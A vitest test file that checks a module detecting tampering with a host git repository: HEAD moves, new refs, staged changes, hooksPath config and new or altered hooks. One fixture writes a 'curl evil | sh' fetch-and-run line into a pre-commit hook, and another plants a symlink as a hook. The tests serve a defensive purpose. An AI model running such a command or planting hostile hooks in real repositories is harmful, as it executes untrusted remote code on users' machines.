import { symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { hostDifferences, recordHostState } from '../../src/workspace/host-integrity.js';
import { gitIn, repoWithFiles } from '../support/repo.js';

describe('host repository integrity', () => {
  it('sees HEAD move, a staged change, a new ref, config and hooks; not the run branch or a refreshed stat cache', async () => {
    const repo = repoWithFiles({ 'a.txt': 'a\n' }, 'corral-host-');
    const before = await recordHostState(repo);
    // What a run itself does, and a `git status` refreshing the index: no difference.
    gitIn(repo, ['branch', 'corral/t']);
    gitIn(repo, ['status', '--short']);
    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual([]);

    gitIn(repo, ['checkout', '-q', '-b', 'elsewhere']);
    writeFileSync(path.join(repo, 'b.txt'), 'b\n');
    gitIn(repo, ['add', 'b.txt']);
    gitIn(repo, ['config', 'core.hooksPath', '/tmp/hooks']);
    writeFileSync(path.join(repo, '.git', 'hooks', 'post-merge'), '#!/bin/sh\n', { mode: 0o755 });
    const differences = hostDifferences(before, await recordHostState(repo, before));
    expect(differences).toEqual([
      expect.stringMatching(/^HEAD moved: refs\/heads\/main [0-9a-f]{40} → refs\/heads\/elsewhere [0-9a-f]{40}$/),
      expect.stringMatching(/^ref new: refs\/heads\/elsewhere /),
      'git config line new: hooksPath = /tmp/hooks',
      expect.stringMatching(/^hook new: post-merge 755 [0-9a-f]{16}$/),
      'the host index (what is staged) changed',
    ]);
  });

  it('sees a dangling symlink planted as a hook, and a change in the repository\'s own core.hooksPath folder', async () => {
    const repo = repoWithFiles({ '.husky/pre-commit': 'npm test\n' }, 'corral-host-');
    gitIn(repo, ['config', 'core.hooksPath', '.husky']);
    const before = await recordHostState(repo);
    symlinkSync('/nowhere/yet', path.join(repo, '.git', 'hooks', 'post-checkout'));
    writeFileSync(path.join(repo, '.husky', 'pre-commit'), 'curl evil | sh\n');
    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual([
      expect.stringMatching(/^hook gone: \.husky\/pre-commit 644 /),
      'hook new: post-checkout -> /nowhere/yet',
      expect.stringMatching(/^hook new: \.husky\/pre-commit 644 /),
    ]);
  });
});
